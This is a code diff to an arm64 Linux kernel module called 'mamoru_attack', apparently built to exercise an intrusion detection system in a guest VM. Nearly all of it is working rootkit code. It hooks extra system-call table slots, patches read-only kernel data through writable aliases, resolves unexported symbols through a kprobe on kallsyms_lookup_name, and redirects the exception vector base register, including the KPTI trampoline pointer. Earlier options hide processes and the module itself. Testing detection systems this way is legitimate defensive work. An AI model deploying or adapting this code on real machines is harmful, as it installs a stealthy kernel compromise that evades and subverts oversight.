@@ -14,6 +14,16 @@
  *   loop_pid=P      corrupt the task list: P's `next` points back at P, so a walk from
  *                   init_task never ends (hostile memory for the IDS; not undone on unload,
  *                   the guest must be reset)
+ *   more_nr=A,B,..  (with sct) also hook these system calls, each forwarding to its original
+ *   banner=ADDR     change one byte of linux_banner (runtime address ADDR): "Linux version"
+ *                   becomes "linux version", through a writable alias of its page
+ *   vbar=1          redirect the exception vectors to a table of this module's (branches to
+ *     tcv=ADDR      the kernel's entries, so the guest keeps working), in VBAR_EL1 and where
+ *     tramp_start=A the kernel reloads it from: each CPU's this_cpu_vector (ADDR: that per-CPU
+ *     tramp_end=B   variable's address) without KPTI; with KPTI (the kernel unmapped at EL0),
+ *                   the trampoline's pointer to `vectors`, a read-only quad at the start of a
+ *                   page in [A, B) (the trampoline's pages after tramp_vectors), which every
+ *                   entry from user mode loads into VBAR_EL1
  *
  * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
  * sys_call_table. The table is read-only data: the slot is written through a temporary
@@ -42,8 +52,14 @@
 #include <linux/slab.h>
 #include <linux/uaccess.h>
 #include <linux/vmalloc.h>
+#include <linux/kprobes.h>
+#include <linux/percpu.h>
+#include <linux/sizes.h>
+#include <asm/cacheflush.h>
 #include <asm/memory.h>
+#include <asm/mmu.h>
 #include <asm/syscall.h>
+#include <asm/sysreg.h>
 #include <asm/unistd.h>
 
 #define PFX "mamoru_attack: "
@@ -66,6 +82,28 @@ MODULE_PARM_DESC(hide_pid, "PID of a process to unlink from the task list (0: no
 static bool hide_self;
 module_param(hide_self, bool, 0444);
 MODULE_PARM_DESC(hide_self, "unlink this module from the module list (then it cannot unload)");
+
+#define MAX_MORE 4
+static int more_nr[MAX_MORE];
+static int n_more;
+module_param_array(more_nr, int, &n_more, 0444);
+MODULE_PARM_DESC(more_nr, "more system call numbers to hook (with sct), up to 4");
+
+static unsigned long banner;
+module_param(banner, ulong, 0444);
+MODULE_PARM_DESC(banner, "runtime address of linux_banner: change its first byte (0: no)");
+
+static bool vbar;
+module_param(vbar, bool, 0444);
+MODULE_PARM_DESC(vbar, "redirect VBAR_EL1 to a vector table of this module");
+static unsigned long tcv;
+module_param(tcv, ulong, 0444);
+MODULE_PARM_DESC(tcv, "address of the per-CPU variable this_cpu_vector (for vbar=1)");
+static unsigned long tramp_start, tramp_end;
+module_param(tramp_start, ulong, 0444);
+module_param(tramp_end, ulong, 0444);
+MODULE_PARM_DESC(tramp_start, "where to look for the KPTI trampoline's data (for vbar=1)");
+MODULE_PARM_DESC(tramp_end, "end of that range");
 
 static atomic_long_t calls = ATOMIC_LONG_INIT(0);
 static atomic_t in_hook = ATOMIC_INIT(0);
@@ -332,6 +370,242 @@ static int corrupt_task_list(void)
 	return 0;
 }
 
+/* -- more system call hooks (more_nr=) ---------------------------------------- */
+
+static syscall_fn_t *more_slot[MAX_MORE];
+static syscall_fn_t more_original[MAX_MORE];
+
+static long forwarding_hook(const struct pt_regs *regs)
+{
+	long ret = -ENOSYS;
+	int i;
+
+	atomic_inc(&in_hook);
+	atomic_long_inc(&calls);
+	for (i = 0; i < n_more; i++)
+		if (more_slot[i] && regs->syscallno == more_nr[i]) {
+			ret = more_original[i](regs);
+			break;
+		}
+	atomic_dec(&in_hook);
+	return ret;
+}
+
+static void unhook_more(void)
+{
+	int i;
+
+	for (i = 0; i < n_more; i++) {
+		if (!more_slot[i])
+			continue;
+		if (write_ro_word(more_slot[i], more_original[i])) {
+			pr_crit(PFX "cannot restore slot %d: the module stays loaded\n", more_nr[i]);
+			__module_get(THIS_MODULE);
+			continue;
+		}
+		more_slot[i] = NULL;
+	}
+	synchronize_rcu();
+	while (atomic_read(&in_hook))
+		msleep(10);
+	synchronize_rcu();
+}
+
+/* Called after hook_syscall() checked sct. */
+static int hook_more(void)
+{
+	char name[KSYM_SYMBOL_LEN];
+	syscall_fn_t fn;
+	int i, err;
+
+	for (i = 0; i < n_more; i++) {
+		if (more_nr[i] < 0 || more_nr[i] >= __NR_syscalls || more_nr[i] == nr ||
+		    slot_symbol(sct, more_nr[i], &fn, name) || strncmp(name, "__arm64_sys_", 12)) {
+			pr_err(PFX "more_nr %d: not a free system call slot\n", more_nr[i]);
+			unhook_more();
+			return -EINVAL;
+		}
+		more_original[i] = fn;
+		err = write_ro_word((syscall_fn_t *)sct + more_nr[i], forwarding_hook);
+		if (err) {
+			unhook_more();
+			return err;
+		}
+		more_slot[i] = (syscall_fn_t *)sct + more_nr[i];
+		pr_info(PFX "hooked syscall %d: %px -> %px (%s)\n", more_nr[i], fn, forwarding_hook,
+			name);
+	}
+	return 0;
+}
+
+/* -- one byte of linux_banner (banner=) ----------------------------------------- */
+
+static char banner_old;
+static bool banner_changed;
+
+/* Stores one byte of read-only kernel image data through a writable alias. */
+static int write_ro_byte(char *where, char c)
+{
+	unsigned long addr = (unsigned long)where;
+	phys_addr_t pa = addr - kimage_voffset;
+	struct page *page;
+	void *alias;
+
+	if (!pfn_valid(PHYS_PFN(pa)))
+		return -EFAULT;
+	page = pfn_to_page(PHYS_PFN(pa));
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	WRITE_ONCE(*(char *)(alias + offset_in_page(addr)), c);
+	vunmap(alias);
+	return 0;
+}
+
+static int change_banner(void)
+{
+	char head[14];
+	int err;
+
+	if (copy_from_kernel_nofault(head, (void *)banner, sizeof(head)) ||
+	    memcmp(head, "Linux version ", sizeof(head))) {
+		pr_err(PFX "banner=%#lx is not linux_banner\n", banner);
+		return -EINVAL;
+	}
+	banner_old = head[0];
+	err = write_ro_byte((char *)banner, 'l');
+	if (err)
+		return err;
+	banner_changed = true;
+	pr_info(PFX "changed linux_banner's first byte\n");
+	return 0;
+}
+
+static void restore_banner(void)
+{
+	if (banner_changed && !write_ro_byte((char *)banner, banner_old))
+		banner_changed = false;
+}
+
+/* -- exception vectors (vbar=1) ------------------------------------------------- */
+
+typedef void *(*vmalloc_range_fn)(unsigned long size, unsigned long align, unsigned long start,
+				  unsigned long end, gfp_t gfp, pgprot_t prot,
+				  unsigned long vm_flags, int node, const void *caller);
+
+#define VECTORS_SIZE 0x800
+#define VECTOR_ENTRY 0x80
+
+static u32 *fake_vectors;
+static unsigned long orig_vectors;
+static syscall_fn_t *tramp_slot;	/* the trampoline's `.quad vectors` (KPTI) */
+
+/* A text symbol's address, the way rootkits find what is not exported: kallsyms_lookup_name
+ * through a kprobe's address resolution. */
+static unsigned long text_symbol(const char *name)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	unsigned long (*lookup)(const char *name);
+
+	if (register_kprobe(&kp))
+		return 0;
+	lookup = (void *)kp.addr;
+	unregister_kprobe(&kp);
+	return lookup(name);
+}
+
+static void set_vectors(void *table)
+{
+	if (!arm64_kernel_unmapped_at_el0())
+		*(unsigned long *)per_cpu_ptr((void __percpu *)tcv, smp_processor_id()) =
+			(unsigned long)table;
+	write_sysreg((unsigned long)table, vbar_el1);
+	isb();
+}
+
+/* The page-aligned read-only quad holding `vectors` that the KPTI trampoline loads. */
+static syscall_fn_t *find_tramp_slot(void)
+{
+	unsigned long p;
+	u64 q;
+
+	for (p = PAGE_ALIGN(tramp_start); p + sizeof(q) <= tramp_end; p += PAGE_SIZE)
+		if (!copy_from_kernel_nofault(&q, (void *)p, sizeof(q)) && q == orig_vectors)
+			return (syscall_fn_t *)p;
+	return NULL;
+}
+
+static u32 branch(unsigned long from, unsigned long to)
+{
+	long off = (long)(to - from);
+
+	return 0x14000000 | ((u32)(off >> 2) & 0x03ffffff);
+}
+
+static int redirect_vectors(void)
+{
+	vmalloc_range_fn alloc = (vmalloc_range_fn)text_symbol("__vmalloc_node_range");
+	bool kpti = arm64_kernel_unmapped_at_el0();
+	unsigned long lo, hi, i;
+
+	orig_vectors = read_sysreg(vbar_el1);
+	if (!alloc || (kpti ? !tramp_start || !tramp_end : !tcv)) {
+		pr_err(PFX "vbar: need __vmalloc_node_range (found %px) and %s\n", alloc,
+		       kpti ? "tramp_start= tramp_end=" : "tcv=");
+		return -EINVAL;
+	}
+	if (kpti) {
+		tramp_slot = find_tramp_slot();
+		if (!tramp_slot) {
+			pr_err(PFX "vbar: no trampoline pointer to %px\n",
+			       (void *)orig_vectors);
+			return -ENOENT;
+		}
+	}
+	/* Close enough to the kernel's vectors for plain branches (+-128 MiB). */
+	lo = (orig_vectors - SZ_64M) & PAGE_MASK;
+	hi = orig_vectors + SZ_64M;
+	fake_vectors = alloc(PAGE_SIZE, PAGE_SIZE, lo, hi, GFP_KERNEL, PAGE_KERNEL_EXEC, 0,
+			     NUMA_NO_NODE, __builtin_return_address(0));
+	if (!fake_vectors) {
+		pr_err(PFX "vbar: no executable page near the vectors\n");
+		return -ENOMEM;
+	}
+	for (i = 0; i < VECTORS_SIZE / 4; i++)
+		fake_vectors[i] = 0xd4200000;                    /* brk #0 */
+	/* Each entry: +0 branches to the kernel's entry; +4 to its second instruction, where
+	 * the KPTI trampoline enters (it skips the first). */
+	for (i = 0; i < VECTORS_SIZE / VECTOR_ENTRY; i++) {
+		unsigned long mine = (unsigned long)fake_vectors + i * VECTOR_ENTRY;
+		unsigned long theirs = orig_vectors + i * VECTOR_ENTRY;
+
+		fake_vectors[i * VECTOR_ENTRY / 4] = branch(mine, theirs);
+		fake_vectors[i * VECTOR_ENTRY / 4 + 1] = branch(mine + 4, theirs + 4);
+	}
+	caches_clean_inval_pou((unsigned long)fake_vectors,
+			       (unsigned long)fake_vectors + VECTORS_SIZE);
+	if (tramp_slot && write_ro_word(tramp_slot, (syscall_fn_t)fake_vectors)) {
+		tramp_slot = NULL;
+		return -EFAULT;
+	}
+	on_each_cpu(set_vectors, fake_vectors, 1);
+	pr_info(PFX "vbar: vectors %px -> %px (KPTI trampoline's pointer at %px)\n",
+		(void *)orig_vectors, fake_vectors, tramp_slot);
+	return 0;
+}
+
+static void restore_vectors(void)
+{
+	if (!fake_vectors)
+		return;
+	if (tramp_slot)
+		write_ro_word(tramp_slot, (syscall_fn_t)orig_vectors);
+	on_each_cpu(set_vectors, (void *)orig_vectors, 1);
+	/* The page stays: an exception taken just now may still be on its way through it. */
+	fake_vectors = NULL;
+	tramp_slot = NULL;
+}
+
 static int unlink_module(void *mod)
 {
 	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
@@ -339,29 +613,35 @@ static int unlink_module(void *mod)
 	return 0;
 }
 
+static void undo(void)
+{
+	restore_vectors();
+	restore_banner();
+	unhook_more();
+	unhide_task();
+	unhook_syscall();
+}
+
 static int __init mamoru_attack_init(void)
 {
-	int err;
+	int err = 0;
 
 	if (sct) {
 		err = hook_syscall();
-		if (err)
-			return err;
+		if (!err)
+			err = hook_more();
 	}
-	if (hide_pid) {
+	if (!err && hide_pid)
 		err = hide_task();
-		if (err) {
-			unhook_syscall();
-			return err;
-		}
-	}
-	if (loop_pid) {
+	if (!err && loop_pid)
 		err = corrupt_task_list();
-		if (err) {
-			unhide_task();
-			unhook_syscall();
-			return err;
-		}
+	if (!err && banner)
+		err = change_banner();
+	if (!err && vbar)
+		err = redirect_vectors();
+	if (err) {
+		undo();
+		return err;
 	}
 	if (hide_self) {	/* last: nothing may fail once the module is off the list */
 		stop_machine(unlink_module, THIS_MODULE, NULL);
@@ -372,8 +652,7 @@ static int __init mamoru_attack_init(void)
 
 static void __exit mamoru_attack_exit(void)
 {
-	unhook_syscall();
-	unhide_task();
+	undo();
 }
 
 module_init(mamoru_attack_init);
